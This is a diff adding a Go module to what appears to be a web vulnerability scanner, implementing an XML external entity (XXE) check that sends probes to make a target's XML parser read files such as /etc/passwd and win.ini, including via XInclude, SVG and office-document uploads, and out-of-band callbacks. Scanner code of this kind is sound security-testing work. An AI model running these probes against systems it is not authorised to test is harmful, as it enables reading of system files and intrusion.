@@ -0,0 +1,393 @@
+package xxe
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"mime"
+	"net/http"
+	"regexp"
+	"strings"
+
+	"http-proxy/pkg/oob"
+	"http-proxy/pkg/scanner"
+)
+
+const (
+	VariantExternalEntity  = "external_entity"
+	VariantParameterEntity = "parameter_entity"
+	VariantErrorBased      = "error_based"
+	VariantXInclude        = "xinclude"
+	VariantSVG             = "svg"
+	VariantOOXML           = "ooxml"
+	VariantContentType     = "content_type"
+	VariantOutOfBand       = "out_of_band"
+)
+
+type check struct{}
+
+// NewCheck returns the check which makes XML parsers of the server read
+// local files through external entities and XInclude.
+func NewCheck() scanner.Check {
+	return &check{}
+}
+
+func (c *check) Name() string {
+	return "xxe"
+}
+
+// probe is one request of a variant, which is found if the response shows
+// the file.
+type probe struct {
+	variant string
+	point   string
+	payload string
+	detail  string
+	file    scanner.LocalFile
+	build   func() (*http.Request, error)
+}
+
+type scan struct {
+	t        *scanner.Target
+	baseline []byte
+	// start and end surround entity references, so that files without a
+	// signature are found where the entity is expanded.
+	start, end string
+	marked     *regexp.Regexp
+	findings   []scanner.Finding
+}
+
+func (c *check) Scan(t *scanner.Target) ([]scanner.Finding, error) {
+	baseline, err := t.Baseline()
+	if err != nil {
+		return nil, err
+	}
+
+	req, err := t.Request()
+	if err != nil {
+		return nil, err
+	}
+	body, err := scanner.ReadBody(req)
+	req.Body.Close()
+	if err != nil {
+		return nil, err
+	}
+
+	s := &scan{t: t, baseline: baseline.Body, start: scanner.Token(), end: scanner.Token()}
+	s.marked = regexp.MustCompile(`(?s)` + s.start + `(.+?)` + s.end)
+
+	mediaType, _, _ := mime.ParseMediaType(req.Header.Get("Content-Type"))
+	points, err := t.InsertionPoints()
+	if err != nil {
+		return nil, err
+	}
+
+	var runs []func() error
+	if len(scanner.FilterPoints(points, scanner.PointXML, scanner.PointXMLAttribute)) != 0 {
+		runs = append(runs, func() error { return s.scanDocument(body) })
+	} else if len(scanner.FilterPoints(points, scanner.PointJSON)) != 0 || strings.HasSuffix(mediaType, "json") {
+		runs = append(runs, func() error { return s.scanContentType(body) })
+	}
+	runs = append(runs,
+		func() error { return s.scanXInclude(points) },
+		func() error { return s.scanUploads(points) },
+	)
+
+	for _, run := range runs {
+		if err := run(); err != nil {
+			return s.findings, err
+		}
+	}
+	return s.findings, nil
+}
+
+// scanDocument declares entities in the XML body and references them in
+// every element without child elements.
+func (s *scan) scanDocument(body []byte) error {
+	referenced := scanner.ReplaceXMLText(body, s.reference())
+
+	document := func(variant string, declare func(scanner.LocalFile) string) []probe {
+		var probes []probe
+		for _, file := range []scanner.LocalFile{scanner.Passwd, scanner.WinIni, scanner.Hostname} {
+			if file.Signature == nil && variant == VariantErrorBased {
+				continue
+			}
+
+			doc := referenced
+			if variant == VariantErrorBased {
+				doc = body
+			}
+			doc, form := addDeclarations(doc, declare(file))
+			if isSOAP(body) {
+				form = "SOAP envelope, " + form
+			}
+
+			probes = append(probes, probe{
+				variant: variant,
+				point:   "body",
+				payload: declare(file),
+				detail:  form,
+				file:    file,
+				build:   s.withBody(doc, ""),
+			})
+		}
+		return probes
+	}
+
+	for _, probes := range [][]probe{
+		document(VariantExternalEntity, externalEntity),
+		document(VariantParameterEntity, parameterEntity),
+		document(VariantErrorBased, errorEntity),
+	} {
+		if err := s.first(probes); err != nil {
+			return err
+		}
+	}
+
+	return s.scanOutOfBand(body)
+}
+
+// scanOutOfBand makes the parser fetch a callback URL by HTTP, and by name
+// through the DNS listener, which works even if entities are not reflected.
+func (s *scan) scanOutOfBand(body []byte) error {
+	var payloads []oob.Payload
+	urls := make(map[string]string)
+	responses := make(map[string]*scanner.Response)
+	for _, byName := range []bool{false, true} {
+		payload, ok := s.t.Callback(VariantOutOfBand, "body")
+		if !ok {
+			return nil
+		}
+
+		url := payload.URL
+		if byName {
+			url = "http://" + payload.Domain + "/"
+		}
+
+		doc, _ := addDeclarations(body, callbackEntity(url))
+		req, err := s.withBody(doc, "")()
+		if err != nil {
+			return err
+		}
+
+		resp, err := s.t.Send(req)
+		if err != nil {
+			return err
+		}
+		s.t.Attach(payload, resp)
+		payloads = append(payloads, payload)
+		urls[payload.Token] = url
+		responses[payload.Token] = resp
+	}
+
+	for _, record := range s.t.AwaitCallbacks(payloads) {
+		interaction := record.Interactions[0]
+		s.findings = append(s.findings, scanner.Finding{
+			Name:           "XML external entity injection",
+			Severity:       scanner.SeverityHigh,
+			Confidence:     scanner.ConfidenceCertain,
+			Variant:        VariantOutOfBand,
+			InsertionPoint: "body",
+			Payload:        callbackEntity(urls[record.Token]),
+			Evidence:       interaction.Detail,
+			Detail:         fmt.Sprintf("%s interaction from %s, token %s", interaction.Protocol, interaction.RemoteAddr, record.Token),
+			RequestID:      responses[record.Token].RequestID,
+			ResponseID:     responses[record.Token].ResponseID,
+		})
+	}
+	return nil
+}
+
+// scanContentType sends a JSON body converted to XML.
+func (s *scan) scanContentType(body []byte) error {
+	var doc interface{}
+	if err := json.Unmarshal(body, &doc); err != nil {
+		return nil
+	}
+
+	var buf bytes.Buffer
+	if _, ok := doc.(map[string]interface{}); ok {
+		jsonToXML(&buf, "root", doc, s.reference())
+	} else {
+		buf.WriteString("<root>")
+		jsonToXML(&buf, "item", doc, s.reference())
+		buf.WriteString("</root>")
+	}
+
+	var probes []probe
+	for _, file := range []scanner.LocalFile{scanner.Passwd, scanner.WinIni, scanner.Hostname} {
+		doc, _ := addDeclarations(append([]byte(`<?xml version="1.0"?>`), buf.Bytes()...), externalEntity(file))
+		probes = append(probes, probe{
+			variant: VariantContentType,
+			point:   "body",
+			payload: string(doc),
+			detail:  "JSON body sent as application/xml",
+			file:    file,
+			build:   s.withBody(doc, "application/xml"),
+		})
+	}
+	return s.first(probes)
+}
+
+// scanXInclude includes files into XML elements, and into parameters which
+// the server may put into XML documents of its own.
+func (s *scan) scanXInclude(points []*scanner.InsertionPoint) error {
+	for _, point := range scanner.FilterPoints(points,
+		scanner.PointXML, scanner.PointQuery, scanner.PointForm, scanner.PointJSON, scanner.PointMultipart) {
+		if point.Filename != "" {
+			continue
+		}
+
+		var probes []probe
+		for _, file := range []scanner.LocalFile{scanner.Passwd, scanner.WinIni} {
+			payload := fmt.Sprintf(kXInclude, file.URL())
+			probes = append(probes, probe{
+				variant: VariantXInclude,
+				point:   point.String(),
+				payload: payload,
+				file:    file,
+				build:   s.inject(point, payload),
+			})
+		}
+		if err := s.first(probes); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// scanUploads replaces uploaded files with SVG images and office documents
+// which reference the files.
+func (s *scan) scanUploads(points []*scanner.InsertionPoint) error {
+	for _, point := range scanner.FilterPoints(points, scanner.PointMultipart) {
+		if point.Filename == "" {
+			continue
+		}
+
+		var probes []probe
+		for _, file := range []scanner.LocalFile{scanner.Passwd, scanner.WinIni, scanner.Hostname} {
+			payload := fmt.Sprintf(kSVG, externalEntity(file), s.reference())
+			probes = append(probes, probe{
+				variant: VariantSVG,
+				point:   point.String(),
+				payload: payload,
+				detail:  "uploaded " + point.Filename + " replaced with an SVG image",
+				file:    file,
+				build:   s.inject(point, payload),
+			})
+		}
+		if err := s.first(probes); err != nil {
+			return err
+		}
+
+		if !isOOXML(point) {
+			continue
+		}
+
+		probes = nil
+		for _, file := range []scanner.LocalFile{scanner.Passwd, scanner.WinIni} {
+			document, err := rewriteOOXML([]byte(point.Value), externalEntity(file), s.reference())
+			if err != nil {
+				break
+			}
+			probes = append(probes, probe{
+				variant: VariantOOXML,
+				point:   point.String(),
+				payload: externalEntity(file),
+				detail:  "entity declared in the XML parts of " + point.Filename,
+				file:    file,
+				build:   s.inject(point, string(document)),
+			})
+		}
+		if err := s.first(probes); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// reference is the entity reference between the markers.
+func (s *scan) reference() string {
+	return s.start + "&" + kEntity + ";" + s.end
+}
+
+func (s *scan) withBody(body []byte, contentType string) func() (*http.Request, error) {
+	return func() (*http.Request, error) {
+		req, err := s.t.Request()
+		if err != nil {
+			return nil, err
+		}
+		req.Body.Close()
+
+		scanner.SetBody(req, body)
+		if contentType != "" {
+			req.Header.Set("Content-Type", contentType)
+		}
+		return req, nil
+	}
+}
+
+func (s *scan) inject(point *scanner.InsertionPoint, payload string) func() (*http.Request, error) {
+	return func() (*http.Request, error) {
+		if point.Kind == scanner.PointXML {
+			return s.t.InjectRaw(point, payload)
+		}
+		return s.t.Inject(point, payload)
+	}
+}
+
+// first sends the probes until one of them is found.
+func (s *scan) first(probes []probe) error {
+	for _, p := range probes {
+		req, err := p.build()
+		if err != nil {
+			return err
+		}
+
+		resp, err := s.t.Send(req)
+		if err != nil {
+			return err
+		}
+
+		if finding := s.analyze(p, resp); finding != nil {
+			s.findings = append(s.findings, *finding)
+			return nil
+		}
+	}
+	return nil
+}
+
+func (s *scan) analyze(p probe, resp *scanner.Response) *scanner.Finding {
+	confidence := scanner.ConfidenceFirm
+	evidence := p.file.Find(resp.Body, s.baseline)
+
+	if evidence == "" && p.file.Signature == nil {
+		marked := s.marked.FindSubmatch(resp.Body)
+		if marked == nil || bytes.Contains(marked[1], []byte(kEntity+";")) {
+			return nil
+		}
+		confidence = scanner.ConfidenceTentative
+		evidence = string(marked[0])
+	}
+	if evidence == "" {
+		return nil
+	}
+
+	detail := "read " + p.file.Path
+	if p.detail != "" {
+		detail = p.detail + ", " + detail
+	}
+
+	return &scanner.Finding{
+		Name:           "XML external entity injection",
+		Severity:       scanner.SeverityHigh,
+		Confidence:     confidence,
+		Variant:        p.variant,
+		InsertionPoint: p.point,
+		Payload:        p.payload,
+		Evidence:       evidence,
+		Detail:         detail,
+		RequestID:      resp.RequestID,
+		ResponseID:     resp.ResponseID,
+	}
+}